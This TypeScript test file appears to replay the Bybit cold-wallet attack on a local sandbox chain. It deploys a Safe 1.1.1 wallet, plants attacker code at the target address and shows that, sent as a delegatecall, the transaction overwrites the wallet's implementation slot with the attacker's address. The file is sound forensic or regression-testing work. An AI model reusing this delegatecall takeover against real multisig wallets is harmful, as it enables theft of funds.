import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Hex } from 'viem'
import { Artifacts } from '../../../src/adapters/range/artifacts.ts'
import { COLD_WALLET, COLD_WALLET_ATTACK, coldWalletSignatures } from '../../../src/adapters/range/bybit-facts.ts'
import { RangeChain } from '../../../src/adapters/range/range-chain.ts'
import { deploySafe111, execution } from '../../../src/adapters/range/safe-111.ts'
import { walletOf } from '../../../src/adapters/range/wallet.ts'

const executor = walletOf(1, 'executor')
const artifacts = new Artifacts()
const world: { chain: RangeChain | null } = { chain: null }

before(async () => {
  world.chain = await RangeChain.start(900_001, 1_740_000_000)
})
after(() => world.chain?.stop())

async function trick(operation: 0 | 1): Promise<{ status: Hex; slot: Hex }> {
  const chain = world.chain as RangeChain
  const safe = await deploySafe111(chain.rpc, artifacts, COLD_WALLET)
  const trickCode = artifacts.own('FirstSlot')
  const placed = chain.deploy(executor, trickCode)
  await chain.rpc.call('anvil_setBalance', executor.address, '0xde0b6b3a7640000')
  await chain.mine(1_740_000_000 + 12 * (chain.height + 1))
  const code = await chain.rpc.call('eth_getCode', placed.address, 'latest')
  await chain.rpc.call('anvil_setCode', COLD_WALLET_ATTACK.to, code)
  const data = execution(safe, { ...COLD_WALLET_ATTACK, operation, signatures: coldWalletSignatures() })
  chain.send(executor, { to: safe.address, data })
  const { receipts } = await chain.mine(1_740_000_000 + 12 * (chain.height + 1))
  const slot = await chain.rpc.call<Hex>('eth_getStorageAt', safe.address, '0x0', 'latest')
  return { status: receipts[0]?.status as Hex, slot }
}

test('with operation 0 the calldata and signatures of Bybit’s transaction 71 are refused by Safe 1.1.1, and its code stays', async () => {
  const { status, slot } = await trick(0)
  assert.equal(status, '0x0')
  assert.equal(BigInt(slot), 0x34cfac646f301356faa8b21e94227e3583fe3f5fn)
})

test('with operation 1 they are taken, and slot 0 becomes the address that the transfer seemed to pay', async () => {
  const { status, slot } = await trick(1)
  assert.equal(status, '0x1')
  assert.equal(BigInt(slot), 0xbdd077f651ebe7f7b3ce16fe5f2b025be2969516n)
})
